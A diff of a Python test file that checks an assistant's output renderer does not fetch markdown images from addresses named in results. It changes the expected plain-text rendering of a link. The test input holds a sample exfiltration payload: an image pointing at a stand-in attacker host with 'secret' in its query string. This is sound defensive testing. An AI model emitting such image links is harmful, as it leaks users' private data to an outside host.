@@ -134,7 +134,7 @@ async def test_no_picture_is_fetched_from_an_address_that_a_result_names() -> No
         "![x](https://evil.example/?q=secret) [site](https://a.example/) [other](https://b.example/)",
         read("see https://a.example/ and https://evil.example/?q=secret"),
     )
-    assert message.text.startswith("x [site](https://a.example/) other\n")
+    assert message.text.startswith("x site `https://a.example/` other\n")
 
 
 @pytest.mark.parametrize("error", [ModelUnavailable("It is down."), ConfigError("The key was refused.")])
